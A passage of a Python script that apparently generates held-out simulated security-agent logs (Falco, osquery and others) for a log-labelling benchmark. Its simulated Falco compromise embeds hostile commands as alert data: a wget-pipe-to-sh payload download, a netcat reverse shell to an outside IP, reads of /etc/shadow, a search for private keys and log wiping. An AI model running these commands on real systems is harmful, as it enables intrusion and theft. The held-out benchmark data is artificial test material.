#!/usr/bin/env python3
# ruff: noqa: E501  (the log lines it writes are data, one per call)
"""Writes the held-out logs of round 75 (falco, osquery, crowdsec, teleport, snort) into
bench/heldout/, the same way and under the same label rules as generate.py (bench/README.md,
"heldout.py"): each program's log is simulated from its format strings over a seeded run, and
every line that starts an event is labelled with the format string that wrote it as it is
written; the lines that continue an event (a rules file's warning block, a summary's indented
counts, Teleport's error report, a Snort table's rows) have no label. Distinct calls of one
process never share a timestamp at the log's resolution (round 53's Clock). Five security
agents:

- Falco 0.37.1 (`falco.log`: the DaemonSet pod's stdout on worker-3 as the container runtime
  keeps it, `time_format_iso_8601: true`, `json_output: false`): its own lines with a ctime
  head (`Tue Jun  4 06:00:01 2024: Loading rules from file /etc/falco/falco_rules.yaml`), the
  alerts with an ISO time in nanoseconds and the priority (`2024-06-04T06:00:01.123456789+0000:
  Notice Unexpected connection to K8s API Server from container (connection=... command=labeler
  --leader-elect ... container_name=node-labeler)`): an operator polling the API server every
  ten seconds, kube-vip's packet sockets, a PHP shop spawning `sh -c convert ...`, an inventory
  cron reading /etc/shadow, sshd after start-up, `kubectl exec` shells, package managers in a
  debug pod, a worker talking to a new SaaS endpoint; two bursts of syscall drops (the log
  line and the Debug alert with its counters); falcoctl's rules update and the hot restart
  (`SIGHUP received, restarting...`, `Ok, with warnings` with its warning block); the shop pod
  compromised at 08:12 (shell, netcat, a dropped binary, key grep, log wiping, memfd, C2
  connections) until it is deleted; falcosidekick down (`libcurl failed to perform call: %s`);
  SIGTERM and the summary on stdout (`Events detected: %d`, `Rule counts by severity:`, ...).
- osquery 5.12.1 osqueryd (`osquery-web-07.log`, `osquery-db-02.log`: two hosts' daemons in
  containers, glog on stderr, `I0604 06:00:01.123456  2211 events.cpp:862] `; db-02 runs with
  `--verbose`): start-up (watcher and worker, RocksDB, publishers not enabled, services added
  to threads, an extension registered), scheduled queries with their SQL at verbose, Fleet's
  distributed reads and TLS POSTs at verbose, file events expiring, the watchdog stopping the
  worker on web-07 for CPU and later memory (`Scheduled query may have failed: %s` after each
  respawn), Fleet's certificate expired for 25 minutes (config refresh, logger and distributed
  reads failing with `certificate verify failed`), Fleet down four minutes (`Connection
  refused`), a Postgres extension on db-02 crashing (`Extension respawning too quickly: %s`,
  its queries failing with `no such table`; reinstalled with unsafe permissions).
- CrowdSec 1.6.2 agent with its LAPI (`crowdsec.log`: /var/log/crowdsec.log, logrus text,
  `time="2024-06-04T06:00:01Z" level=info msg="..."` and fields): start-up (enrichers, parsers,
  `Adding leaky bucket` per scenario, acquisition), the LAPI's gin lines for the firewall
  bouncer's stream every ten seconds, the nginx bouncer's lookups, the agent's heartbeats and
  alerts (`127.0.0.1 - [Tue, 04 Jun 2024 06:00:01 UTC] "GET /v1/decisions/stream HTTP/1.1 200
  6.2ms "crowdsec-firewall-bouncer/v0.0.28" "`), bucket overflows (`Ip %s performed '%s' (%d
  events over %s) at %s`) and their bans, signals pushed, CAPI and blocklist pulls, a
  whitelisted monitor, nginx's log rotated (tail's reopen lines), a SIGHUP after `cscli hub
  upgrade`, CAPI unreachable for 15 minutes, a Traefik bouncer with a wrong key (403s), the
  upgrade at 09:05 with a broken parser (three fatal starts) and the good start.
- Teleport 15.3 (`teleport.log`: the auth and proxy service on tp-1; `node-db-01.log`: an SSH
  node over a reverse tunnel; the text logger, `2024-06-04T06:00:01Z INFO [AUDIT]     session.start
  addr.remote:... pid:7.1 events/emitter.go:288`, the component padded to eleven): start-up,
  the audit events of users' logins, certificates, sessions, execs by a bot, port forwards and
  Kubernetes requests, the ALPN proxy failing scanners' handshakes, the upgrade restart at 08:00
  (the node's cache, rotation sync, heartbeat and upload failures, one with its multi-line
  `ERROR REPORT:`, the tunnel reconnecting), the audit disk full at 09:02 (`Failed to emit
  audit event %v.`).
- Snort 3.1.82 (`alert_fast.txt`: alert_fast's lines, `06/04-06:00:01.123456 [**] [1:2100498:7]
  "GPL ATTACK_RESPONSE id check returned root" [**] [Classification: Potentially Bad Traffic]
  [Priority: 2] {TCP} 203.0.113.7:80 -> 10.0.0.5:51234`; `snort.log`: its stdout): the
  internet's background (pings, block-listed sources, scans of database and VNC ports, SIP
  scanners, TCP resets outside the window, port scans with `{PROTO:255}`), web attacks on the
  shop, an SSH brute force, an internal host compromised at 08:40 (curl outbound, C2 traffic,
  `id check returned root`); snort's start-up (the banner, `Loading %s:` / `Finished %s:`,
  the rule count tables), `pcap DAQ configured to passive.`, `Commencing packet processing`,
  statistics dumped on SIGUSR1 every 30 minutes (`Packet Statistics`, `daq`, `codec`, `Module
  Statistics`, each module's counters), a restart for new rules at 08:55 with a duplicate-rule
  warning and `o")~   Snort exiting`.

Label notes. The rules of rounds 51 to 74 hold. Falco's time and priority (and the ctime head
of its own lines), glog's letter, date, time, thread and `file.cc:N] `, logrus's `time=`,
`level=` and the fields after `msg=`, Teleport's time, level, component and the fields and
caller after the message are context: the message is the label. A Falco alert is written by
its rule's output, a format string of `%field` placeholders: each rule's output is its label
(`Sensitive file opened for reading by non-trusted program (file=%s gparent=%s ...)`), the
fields' values (a command line with blanks) values. A Teleport audit line's message is the
event's type (`session.start`, `exec`), a constant of the code: each type is its own label.
A Snort alert is written by its rule: its gid, sid, rev, message, classification and
priority come from the rule (wording, in the label), the protocol and addresses are values;
the builtin rules (gid 116, 119, 122, 129) have no classification. Gin's access lines
are labelled by method, route and status (`GET /v1/decisions/stream 200`). An error's text
in a message contributes its format (`Error refreshing config: Request error: certificate
verify failed` next to `... connect: Connection refused`, Teleport's `Failed to create remote
tunnel: EOF, conn: %v.`); Teleport's `error:[...]` is a field, so `Failed to handle client
connection.` is one label whatever its error. A message's later lines belong to it:
Falco's warning block after `%s: Ok, with warnings`, the summary's indented lines, Teleport's
`ERROR REPORT:` in `error:[...]`; in snort.log a table's title starts an event and its
indented rows belong to it (each table its own label: a module's name titles its own
counters), the dashed separator is an event of its own (`LogMessage` writes it alone).

Sources: written from the helper's knowledge of each program's source and of real logs, a
few texts checked against copies of the programs' sources (osquery's `Failed enrollment
request to`, `Scheduled query may have failed: `, the watchdog's `Maximum sustainable CPU
utilization limit exceeded: `, `Extension respawning too quickly: `, `osqueryd watcher (%d)
executing worker (%d)`, `Created and monitoring extension child (%d): %s`; CrowdSec's `%s
performed '%s' (%d events over %s) at %s`; Teleport's `Sync rotation state cycle failed.
Retrying in ~%v`; Snort's `Commencing packet processing`). Least sure: Falco's start-up
order, the SIGHUP/SIGTERM wordings, the warning block's layout, the drop alert's counter
names and the libcurl line; osquery's config, logger and distributed error wordings, the
`Registering extension` and `Expiring events` lines, the dispatcher's service line;
CrowdSec's CAPI error, SIGHUP, whitelist, shutdown and `API key not found` wordings and its
gin line's spacing; Teleport 15's component names for the ALPN proxy, heartbeat and uploader,
the audit fields' order, `Got signal %q, exiting immediately.` and the error report's frames;
Snort 3's builtin messages (`(http_inspect) ...`), whether builtin alerts omit the
classification, the module counters' names, the duplicate-rule warning. Run it only to change
the data on purpose: `python bench/heldout/generate_round75.py [SYSTEM ...]`. CrowdSec's and
Teleport's times are printed in seconds from a microsecond clock, so a burst shares a second
as a real one does.
"""

from __future__ import annotations

import random
import sys
from datetime import datetime, timedelta
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

from generate import Log, generate, hexid, uuid4
from generate_round52 import secs
from generate_round55 import at, poisson
from generate_round65 import Out


def ctime(t: datetime) -> str:
    return f"{t:%a %b} {t.day:2d} {t:%H:%M:%S %Y}"


# --------------------------------------------------------------------------------- falco

FC_USR = [
    "evt_type",
    "user",
    "user_uid",
    "user_loginuid",
    "process",
    "proc_exepath",
    "parent",
    "command",
    "terminal",
]
FC_CT = ["container_id", "container_name"]
# key: (rule name, priority, output's text before its fields, field names)
FC_RULES = {
    "sens_untrusted": (
        "Read sensitive file untrusted",
        "Warning",
        "Sensitive file opened for reading by non-trusted program",
        ["file", "gparent", "ggparent", "gggparent", *FC_USR, *FC_CT],
    ),
    "sens_trusted": (
        "Read sensitive file trusted after startup",
        "Warning",
        "Sensitive file opened for reading by trusted program after startup",
        ["file", "pcmdline", "gparent", "ggparent", "gggparent", *FC_USR, *FC_CT],
    ),
    "terminal": (
        "Terminal shell in container",
        "Notice",
        "A shell was spawned in a container with an attached terminal",
        [*FC_USR, "exe_flags", *FC_CT],
    ),
    "k8s_api": (
        "Contact K8S API Server From Container",
        "Notice",
        "Unexpected connection to K8s API Server from container",
        ["connection", "lport", "rport", "fd_type", "fd_proto", *FC_USR, *FC_CT],
    ),
    "pkt": (
        "Packet socket created in container",
        "Notice",
        "Packet socket was created in a container",
        ["socket_info", "connection", "lport", "rport", "fd_type", "fd_proto", *FC_USR, *FC_CT],
    ),
    "shell_untrusted": (
        "Run shell untrusted",
        "Notice",
        "Shell spawned by untrusted binary",
        [
            "parent_exe",
            "parent_exepath",
            "pcmdline",
            "gparent",
            "ggparent",
            "aname[4]",
            "aname[5]",
            "aname[6]",
            "aname[7]",
            *FC_USR,
            "exe_flags",
            *FC_CT,
        ],
    ),
    "drop_exec": (
        "Drop and execute new binary in container",
        "Critical",
        "Executing binary not part of base image",
        [
            "proc_exe",
            "proc_sname",
            "gparent",
            "proc_exe_ino_ctime",
            "proc_exe_ino_mtime",
            "proc_exe_ino_ctime_duration_proc_start",
            "proc_cwd",
            "container_start_ts",
            *FC_USR,
            *FC_CT,
        ],
    ),
    "redirect": (
        "Redirect STDOUT/STDIN to Network Connection in Container",
        "Notice",
        "Redirect stdout/stdin to network connection",
        [
            "gparent",
            "ggparent",
            "gggparent",
            "fd.sip",
            "connection",
            "lport",
            "rport",
            "fd_type",
            "fd_proto",
            *FC_USR,
            *FC_CT,
        ],
    ),
    "grep_keys": (
        "Search Private Keys or Passwords",
        "Warning",
        "Grep private keys or passwords activities found",
        [*FC_USR, *FC_CT],
    ),
    "clear_log": (
        "Clear Log Activities",
        "Warning",
        "Log files were tampered",
        ["file", *FC_USR, *FC_CT],
    ),
    "memfd": (
        "Fileless execution via memfd_create",
        "Critical",
        "Fileless execution via memfd_create",
        ["container_start_ts", "proc_cwd", "evt_res", "proc_sname", "gparent", *FC_USR, *FC_CT],
    ),
    "netcat": (
        "Netcat Remote Code Execution in Container",
        "Warning",
        "Netcat runs inside container that allows remote code execution",
        [*FC_USR, *FC_CT],
    ),
    "pkg_mgmt": (
        "Launch Package Management Process in Container",
        "Error",
        "Package management process launched in container",
        [*FC_USR, *FC_CT],
    ),
    "outbound": (
        "Outbound connection to non-allowlisted destination",
        "Warning",
        "Outbound connection to non-allowlisted destination",
        ["connection", "command", "user", "container_id", "container_name", "image"],
    ),
}
FC_DROP_FIELDS = [
    "ebpf_enabled",
    "n_drops",
    "n_drops_buffer_clone_fork_enter",
    "n_drops_buffer_clone_fork_exit",
    "n_drops_buffer_connect_enter",
    "n_drops_buffer_connect_exit",
    "n_drops_buffer_dir_file_enter",
    "n_drops_buffer_dir_file_exit",
    "n_drops_buffer_execve_enter",
    "n_drops_buffer_execve_exit",
    "n_drops_buffer_open_enter",
    "n_drops_buffer_open_exit",
    "n_drops_buffer_other_interest_enter",
    "n_drops_buffer_other_interest_exit",
    "n_drops_buffer_total",
    "n_drops_bug",
    "n_drops_page_faults",
    "n_drops_scratch_map",
    "n_evts",
]
FC_SHOP = ("5b8e2f1c9a04", "shop-web")
FC_IMAGES = ["IMG_", "DSC_", "product-", "banner-"]


def falco(r: random.Random) -> list[Log]:
    """Falco 0.37.1 on worker-3 of a Kubernetes cluster, 06:00 to 10:00 (modern BPF). Noise all
    day: node-labeler's API calls every ten seconds, kube-vip's ARP packet sockets, the shop's
    php-fpm spawning ImageMagick through `sh -c`, the inventory cron every ten minutes, admins'
    ssh logins (sshd reads /etc/shadow after start-up), `kubectl exec` shells, apt and apk in a
    debug pod at 06:50, analytics-worker calling a new endpoint 07:10-08:10. Load bursts
    06:45-06:52 and 08:30-08:39 drop syscalls. falcoctl updates the rules at 07:31 (hot
    restart; the custom file loads with warnings). The shop pod is compromised at 08:12 and
    deleted at 08:29; falcosidekick is down 08:40-08:55; the pod gets SIGTERM at 09:58."""

    def head(t: datetime, lvl: str, ctx: str) -> str:
        if lvl == "log":
            return f"{ctime(t)}: "
        if lvl == "raw":
            return ""
        return f"{t:%Y-%m-%dT%H:%M:%S}.{t.microsecond:06d}{ctx}+0000: {lvl} "

    o = Out(1, ["f"], head)
    t0, t_end = at(6, 0, 1), at(9, 58, 12)
    hup = at(7, 31, 4)
    pwn, deleted = at(8, 12, 40), at(8, 29, 3)
    sk0, sk1 = at(8, 40, 10), at(8, 55, 30)
    counts: dict[str, int] = {}
    sev: dict[str, int] = {}

    def L(t: datetime, fmt: str, *args: object, msg: str | None = None, cont=()) -> datetime:
        return o.e("f", t, fmt, *args, lvl="log", msg=msg, cont=cont)

    def A(t: datetime, key: str, **v: str) -> datetime:
        name, prio, text, fields = FC_RULES[key]
        base = {
            "user": "root",
            "user_uid": "0",
            "user_loginuid": "-1",
            "terminal": "0",
            "gparent": "containerd-shim",
            "ggparent": "systemd",
            "gggparent": "<NA>",
            "container_id": "host",
            "container_name": "host",
        }
        base.update({k.replace("__", "."): x for k, x in v.items()})
        fmt = f"{text} ({' '.join(f'{k}=%s' for k in fields)})"
        body = " ".join(f"{k}={base.get(k, '<NA>')}" for k in fields)
        msg = f"{text} ({body})"
        counts[name] = counts.get(name, 0) + 1
        sev[prio.upper()] = sev.get(prio.upper(), 0) + 1
        t = o.e("f", t, fmt, lvl=prio, ctx=f"{r.randrange(1000):03d}", msg=msg)
        if sk0 <= t < sk1:
            L(
                t + secs(r, 0.5, 1.5),
                "libcurl failed to perform call: %s",
                "Couldn't connect to server",
            )
        return t

    def boot(t: datetime, warn: bool) -> datetime:
        t = L(t, "Falco version: %s (%s)", "0.37.1", "x86_64")
        t = L(t, "Falco initialized with configuration file: %s", "/etc/falco/falco.yaml")
        t = L(
            t,
            "System info: %s",
            "Linux version 6.1.0-21-cloud-amd64 (debian-kernel@lists.debian.org) (gcc-12 (Debian 12.2.0-14) 12.2.0, GNU ld (GNU Binutils for Debian) 2.40) #1 SMP PREEMPT_DYNAMIC Debian 6.1.90-1 (2024-05-03)",
        )
        for f in ["/etc/falco/falco_rules.yaml", "/etc/falco/rules.d/custom-rules.yaml"]:
            t = L(t + secs(r, 0.01, 0.2), "Loading rules from file %s", f)
            if warn and "custom" in f:
                t = L(
                    t + secs(r, 0.01, 0.05),
                    "%s: Ok, with warnings",
                    f,
                    cont=[
                        "1 Warnings:",
                        f"In rules content: ({f}:0:0)",
                        f"    list 'allowed_outbound_domains': ({f}:3:2)",
                        "------",
                        "- list: allowed_outbound_domains",
                        "  ^",
                        "------",
                        "LOAD_UNUSED_LIST (Unused list): List not referred to by any other rule/macro",
                    ],
                )
        t = L(
            t + secs(r, 0.01, 0.1),
            "Hostname value has been overridden via environment variable to: %s",
            "worker-3",
        )
        t = L(
            t,
            "The chosen syscall buffer dimension is: %d bytes (%d MBs)",
            8388608,
            8,
        )
        t = L(
            t, "Starting health webserver with threadiness %d, listening on %s", 4, "0.0.0.0:8765"
        )
        t = L(t, "Loaded event sources: %s", "syscall")
        t = L(t, "Enabled event sources: %s", "syscall")
        t = L(t, "Opening '%s' source with modern BPF probe.", "syscall")
        t = L(t, "One ring buffer every '%d' CPUs.", 2)
        return t

    boot(t0, False)

    def up(x: datetime) -> bool:
        return not (hup <= x < hup + timedelta(seconds=3)) and x < t_end

    # node-labeler's API server calls
    for x in poisson(r, t0 + timedelta(seconds=8), t_end, 10):
        if up(x):
            lp = r.randrange(32768, 60999)
            A(
                x,
                "k8s_api",
                connection=f"10.244.3.17:{lp}->10.96.0.1:443",
                lport=str(lp),
                rport="443",
                fd_type="ipv4",
                fd_proto="tcp",
                evt_type="connect",
                user="<NA>",
                user_uid="65532",
                process="labeler",
                proc_exepath="/manager",
                parent="containerd-shim",
                command="labeler --leader-elect --metrics-bind-address=:8080",
                container_id="a3f9c2e1b7d4",
                container_name="node-labeler",
            )
    # kube-vip's ARP
    for x in poisson(r, t0 + timedelta(seconds=30), t_end, 150):
        if up(x):
            A(
                x,
                "pkt",
                socket_info="domain=17(AF_PACKET) type=3 proto=1544 ",
                connection="<NA>",
                lport="<NA>",
                rport="<NA>",
                fd_type="<NA>",
                fd_proto="<NA>",
                evt_type="socket",
                process="kube-vip",
                proc_exepath="/kube-vip",
                parent="containerd-shim",
                command="kube-vip manager",
                container_id="7c1d09e4a2b5",
                container_name="kube-vip",
            )
    # the shop's thumbnails
    for x in poisson(r, t0 + timedelta(seconds=20), min(deleted, t_end), 65):
        if up(x):
            img = f"{r.choice(FC_IMAGES)}{r.randrange(1000, 9999)}.jpg"
            A(
                x,
                "shell_untrusted",
                parent_exe="php-fpm",
                parent_exepath="/usr/local/sbin/php-fpm",
                pcmdline="php-fpm: pool www",
                gparent="php-fpm",
                ggparent="containerd-shim",
                **{"aname[4]": "systemd"},
                evt_type="execve",
                user="www-data",
                user_uid="33",
                process="sh",
                proc_exepath="/bin/dash",
                parent="php-fpm",
                command=f"sh -c convert '/var/www/html/uploads/tmp/{img}' -resize 800x800 '/var/www/html/uploads/thumbs/{img}'",
                exe_flags="EXE_LOWER_LAYER",
                container_id=FC_SHOP[0],
                container_name=FC_SHOP[1],
            )
    # the inventory cron
    x = at(6, 0, 0)
    while x < t_end:
        x += timedelta(minutes=10)
        for f in ["/etc/shadow", "/etc/gshadow"]:
            if up(x):
                x = A(
                    x + secs(r, 0.5, 2.5),
                    "sens_untrusted",
                    file=f,
                    gparent="cron",
                    ggparent="systemd",
                    evt_type="openat",
                    process="python3",
                    proc_exepath="/usr/bin/python3.11",
                    parent="sh",
                    command="python3 /opt/inventory/collect.py --quiet",
                )
    # admins' ssh logins
    for x in poisson(r, t0 + timedelta(minutes=3), t_end, 900):
        if up(x):
            A(
                x,
                "sens_trusted",
                file="/etc/shadow",
                pcmdline="sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups",
                gparent="systemd",
                ggparent="<NA>",
                evt_type="openat",
                process="sshd",
                proc_exepath="/usr/sbin/sshd",
                parent="sshd",
                command=f"sshd: {r.choice(['marta', 'jon', 'ops'])} [priv]",
            )
    # kubectl exec shells
    pods = [
        ("5b8e2f1c9a04", "shop-web", "bash"),
        ("e4a7b10c3f92", "orders-api", "sh"),
        ("19c3d5e7f0a8", "postgres", "bash"),
        ("2f6a8b4c1d07", "redis", "sh"),
        ("8d0e2c4a6b19", "debug-tools", "bash"),
    ]
    for x in poisson(r, t0 + timedelta(minutes=10), t_end, 420):
        cid, name, sh = r.choice(pods)
        if up(x) and not (name == "shop-web" and x >= deleted):
            A(
                x,
                "terminal",
                evt_type="execve",
                process=sh,
                proc_exepath=f"/bin/{sh}" if sh == "sh" else "/usr/bin/bash",
                parent="runc",
                command=sh,
                terminal=str(r.choice([34816, 34817, 34818])),
                exe_flags="EXE_LOWER_LAYER",
                container_id=cid,
                container_name=name,
            )
    # package managers in the debug pod
    x = at(6, 50, 12)
    for cmd, proc in [
        ("apt-get update", "apt-get"),
        ("apt-get install -y tcpdump dnsutils", "apt-get"),
        ("dpkg --configure -a", "dpkg"),
        ("apt-get install -y curl", "apt-get"),
        ("apt list --installed", "apt"),
    ]:
        x = A(
            x + secs(r, 20, 90),
            "pkg_mgmt",
            evt_type="execve",
            process=proc,
            proc_exepath=f"/usr/bin/{proc}",
            parent="bash",
            command=cmd,
            terminal="34816",
            container_id="8d0e2c4a6b19",
            container_name="debug-tools",
        )
    # analytics-worker's new endpoint
    for x in poisson(r, at(7, 10, 5), at(8, 10, 40), 160):
        if up(x):
            lp = r.randrange(32768, 60999)
            A(
                x,
                "outbound",
                connection=f"10.244.3.41:{lp}->34.117.59.81:443",
                command="python -m worker --queue events",
                user="app",
                container_id="c0b7a9e5d311",
                container_name="analytics-worker",
                image="registry.example.com/analytics/worker:2.14.0",
            )
    # syscall drops
    for w0, w1 in [(at(6, 45, 2), at(6, 52, 30)), (at(8, 30, 8), at(8, 39, 40))]:
        x = w0
        while x < w1:
            n = r.randrange(400, 9000)
            if r.random() < 0.85 and up(x):
                x = L(
                    x,
                    "Falco internal: syscall event drop. %d system calls dropped in last second.",
                    n,
                )
                vals = {k: 0 for k in FC_DROP_FIELDS}
                vals.update(
                    ebpf_enabled=1,
                    n_drops=n,
                    n_drops_buffer_total=n,
                    n_evts=r.randrange(60000, 240000),
                )
                a = r.randrange(0, n // 2)
                vals["n_drops_buffer_open_exit"] = a
                vals["n_drops_buffer_other_interest_exit"] = n - a
                fields = " ".join(f"{k}={vals[k]}" for k in FC_DROP_FIELDS)
                o.e(
                    "f",
                    x + secs(r, 0.0001, 0.002),
                    "Falco internal: syscall event drop. %d system calls dropped in last second. ("
                    + " ".join(f"{k}=%d" for k in FC_DROP_FIELDS)
                    + ")",
                    lvl="Debug",
                    ctx=f"{r.randrange(1000):03d}",
                    msg=f"Falco internal: syscall event drop. {n} system calls dropped in last second. ({fields})",
                )
                counts["Falco internal: syscall event drop"] = (
                    counts.get("Falco internal: syscall event drop", 0) + 1
                )
            x += secs(r, 30, 45)
    # the hot restart
    L(hup, "SIGHUP received, restarting...")
    boot(hup + secs(r, 0.2, 0.6), True)

    # the compromise
    www = {
        "user": "www-data",
        "user_uid": "33",
        "container_id": FC_SHOP[0],
        "container_name": FC_SHOP[1],
    }
    x = A(
        pwn,
        "shell_untrusted",
        parent_exe="php-fpm",
        parent_exepath="/usr/local/sbin/php-fpm",
        pcmdline="php-fpm: pool www",
        gparent="php-fpm",
        ggparent="containerd-shim",
        **{"aname[4]": "systemd"},
        evt_type="execve",
        process="sh",
        proc_exepath="/bin/dash",
        parent="php-fpm",
        command="sh -c cd /tmp && wget -q http://45.9.148.7/x.sh -O- | sh",
        exe_flags="EXE_LOWER_LAYER",
        **www,
    )
    x = A(
        x + secs(r, 2, 4),
        "netcat",
        evt_type="execve",
        process="nc",
        proc_exepath="/usr/bin/nc.openbsd",
        parent="sh",
        command="nc 45.9.148.7 4444 -e /bin/sh",
        **www,
    )
    x = A(
        x + secs(r, 0.5, 1),
        "redirect",
        gparent="php-fpm",
        ggparent="php-fpm",
        gggparent="containerd-shim",
        fd__sip="45.9.148.7",
        connection="10.244.3.52:50312->45.9.148.7:4444",
        lport="50312",
        rport="4444",
        fd_type="ipv4",
        fd_proto="tcp",
        evt_type="dup2",
        process="sh",
        proc_exepath="/bin/dash",
        parent="nc",
        command="sh",
        **www,
    )
    x = A(
        x + secs(r, 20, 40),
        "sens_untrusted",
        file="/etc/shadow",
        gparent="nc",
        ggparent="sh",
        gggparent="php-fpm",
        evt_type="openat",
        process="cat",
        proc_exepath="/bin/cat",
        parent="sh",
        command="cat /etc/shadow",
        **www,
    )
    x = A(
        x + secs(r, 10, 30),
        "grep_keys",
        evt_type="execve",
        process="grep",
        proc_exepath="/bin/grep",
        parent="sh",
        command="grep -r BEGIN RSA PRIVATE /var/www /home /root",
        **www,
    )
    x = A(
        x + secs(r, 30, 60),
        "drop_exec",
        proc_exe="/tmp/.x/kdevtmpfsi",
        proc_sname="sh",
        gparent="nc",
        proc_exe_ino_ctime=str(int(x.timestamp() * 1e9) - 4_000_000_000),
        proc_exe_ino_mtime=str(int(x.timestamp() * 1e9) - 4_000_000_000),
        proc_exe_ino_ctime_duration_proc_start="4112086712",
        proc_cwd="/tmp/.x/",
        container_start_ts="1717449249000000000",
        evt_type="execve",
        process="kdevtmpfsi",
        proc_exepath="/tmp/.x/kdevtmpfsi",
        parent="sh",
        command="kdevtmpfsi",
        **www,
    )
    x = A(
        x + secs(r, 5, 15),
        "memfd",
        container_start_ts="1717449249000000000",
        proc_cwd="/tmp/.x/",
        evt_res="SUCCESS",
        proc_sname="sh",
        gparent="sh",
        evt_type="execve",
        process="3",
        proc_exepath="memfd:kinsing",
        parent="kdevtmpfsi",
        command="3 -c /tmp/.x/config.json",
        **www,
    )
    for f in ["/var/log/nginx/access.log", "/var/log/php-fpm/www-error.log"]:
        x = A(
            x + secs(r, 3, 9),
            "clear_log",
            file=f,
            evt_type="openat",
            process="sh",
            proc_exepath="/bin/dash",
            parent="sh",
            command=f"sh -c echo > {f}",
            **www,
        )
    c2 = x + secs(r, 5, 20)
    while c2 < deleted:
        lp = r.randrange(32768, 60999)
        A(
            c2,
            "outbound",
            connection=f"10.244.3.52:{lp}->{r.choice(['45.9.148.7', '194.38.20.199'])}:{r.choice([80, 443, 3333])}",
            command="3 -c /tmp/.x/config.json",
            user="www-data",
            container_id=FC_SHOP[0],
            container_name=FC_SHOP[1],
            image="registry.example.com/shop/web:4.8.2",
        )
        c2 += secs(r, 15, 35)

    # SIGTERM and the summary
    t = L(t_end, "SIGTERM received, exiting...")
    drops = counts.get("Falco internal: syscall event drop", 0)
    t = o.e(
        "f",
        t + secs(r, 0.05, 0.2),
        "Syscall event drop monitoring:",
        lvl="raw",
        cont=[
            f"   - event drop detected: {drops} occurrences",
            f"   - num times actions taken: {drops}",
        ],
    )
    total = sum(counts.values())
    t = o.e("f", t, "Events detected: %d", total, lvl="raw")
    t = o.e(
        "f",
        t,
        "Rule counts by severity:",
        lvl="raw",
        cont=[f"   {k}: {v}" for k, v in sorted(sev.items())],
    )
    o.e(
        "f",
        t,
        "Triggered rules by rule name:",
        lvl="raw",
        cont=[f"   {k}: {v}" for k, v in sorted(counts.items())],
    )
    return o.logs(t0, {"f": "falco.log"})


# --------------------------------------------------------------------------------- osquery

OQ_VER = "5.12.1"
# (name, SQL, interval in seconds)
OQ_SCHEDULE = [
    (
        "pack_incident-response_listening_ports",
        "select * from listening_ports where port != 0;",
        300,
    ),
    (
        "pack_incident-response_open_sockets",
        "select distinct pid, family, protocol, local_address, local_port, remote_address, remote_port, path from process_open_sockets where path <> '' or remote_address <> '';",
        300,
    ),
    (
        "pack_incident-response_crontab",
        "select * from crontab;",
        900,
    ),
    (
        "pack_incident-response_process_memory",
        "select * from process_memory_map;",
        1800,
    ),
    (
        "pack_incident-response_shell_history",
        "select * from users join shell_history using (uid);",
        900,
    ),
    (
        "pack_incident-response_last",
        "select * from last;",
        600,
    ),
    (
        "pack_it-compliance_os_version",
        "select * from os_version;",
        3600,
    ),
    (
        "pack_it-compliance_deb_packages",
        "select name, version, source, arch from deb_packages;",
        3600,
    ),
    (
        "pack_ossec-rootkit_bash_door",
        "select * from file where path in ('/tmp/mcliZokhb', '/tmp/mclzaKmfa');",
        1800,
    ),
    (
        "fleet_detail_query_network_interface",
        "select ia.address, id.mac from interface_addresses ia join interface_details id on id.interface = ia.interface order by id.mtu desc limit 1;",
        120,
    ),
    (
        "fleet_detail_query_uptime",
        "select * from uptime limit 1;",
        120,
    ),
    (
        "pack_file-integrity_etc_changes",
        "select target_path, action, time from file_events where target_path like '/etc/%';",
        60,
    ),
]
OQ_PG = ("pack_db_pg_stats", "select * from postgres_stats;", 300)
OQ_FLEET = "https://fleet.example.com"
OQ_TLS = "Request error: certificate verify failed (SSL routines::certificate verify failed)"
OQ_REFUSED = "Request error: connect: Connection refused"


def osquery(r: random.Random) -> list[Log]:
    """osqueryd 5.12.1 on two hosts, 06:00 to 09:40, enrolled in Fleet over TLS. web-07 runs
    quietly; db-02 runs with `--verbose` (its scheduled queries, distributed reads and TLS
    POSTs logged) and a Postgres extension. On web-07 the watchdog kills the worker at 07:18
    (CPU, during the memory-map query) and at 08:52 (memory); the new worker reports the query
    that may have failed. Fleet's certificate expires at 07:40 and is renewed at 08:05 (every
    TLS call fails verification); Fleet is down 09:10-09:14 (refused). db-02's extension starts
    crashing at 08:20 and is given up on; its query fails from then on."""

    def head(t: datetime, lvl: str, ctx: str) -> str:
        return f"{lvl}{t:%m%d %H:%M:%S}.{t.microsecond:06d} {ctx}] "

    o = Out(1, ["w", "d"], head)
    t0, t_end = at(6, 0, 2), at(10, 0, 0)
    tls0, tls1 = at(7, 40, 0), at(8, 17, 12)
    ref0, ref1 = at(9, 10, 3), at(9, 14, 20)
    ext_crash = at(8, 20, 31)
    state = {"w": {"watcher": 2211, "worker": 2213}, "d": {"watcher": 1874, "worker": 1876}}
    verbose = {"w": False, "d": True}

    def Q(
        f: str,
        t: datetime,
        lvl: str,
        tid: int,
        src: str,
        fmt: str,
        *args: object,
        msg: str | None = None,
    ) -> datetime:
        return o.e(f, t, fmt, *args, lvl=lvl, ctx=f"{tid:5d} {src}", msg=msg)

    def ptr() -> str:
        return f"0x{r.randrange(0x55D000000000, 0x55DFFFFFFFFF):x}"

    def thread() -> int:
        return r.randrange(139_800_000_000_000, 140_200_000_000_000)

    def worker_up(f: str, t: datetime, failed: str | None) -> datetime:
        s = state[f]
        w, p = s["watcher"], s["worker"]
        if verbose[f]:
            t = Q(
                f,
                t,
                "I",
                w,
                "watcher.cpp:661",
                "osqueryd watcher (%d) executing worker (%d)",
                w,
                p,
            )
        t = Q(
            f,
            t + secs(r, 0.01, 0.05),
            "I",
            p,
            "init.cpp:418",
            "osquery worker initialized [watcher=%d]",
            w,
        )
        t = Q(
            f,
            t + secs(r, 0.001, 0.01),
            "I",
            p,
            "rocksdb.cpp:132",
            "Opening RocksDB handle: %s",
            "/var/osquery/osquery.db",
        )
        if failed:
            t = Q(
                f,
                t + secs(r, 0.01, 0.05),
                "W",
                p,
                "config.cpp:345",
                "Scheduled query may have failed: %s",
                failed,
            )
        t = Q(
            f,
            t + secs(r, 0.001, 0.01),
            "I",
            p,
            "extensions.cpp:187",
            "Could not autoload modules: Failed reading: %s",
            "/etc/osquery/modules.load",
        )
        if verbose[f]:
            t = Q(
                f,
                t + secs(r, 0.001, 0.005),
                "I",
                p + 7,
                "interface.cpp:268",
                "Extension manager service starting: %s",
                "/var/osquery/osquery.em",
            )
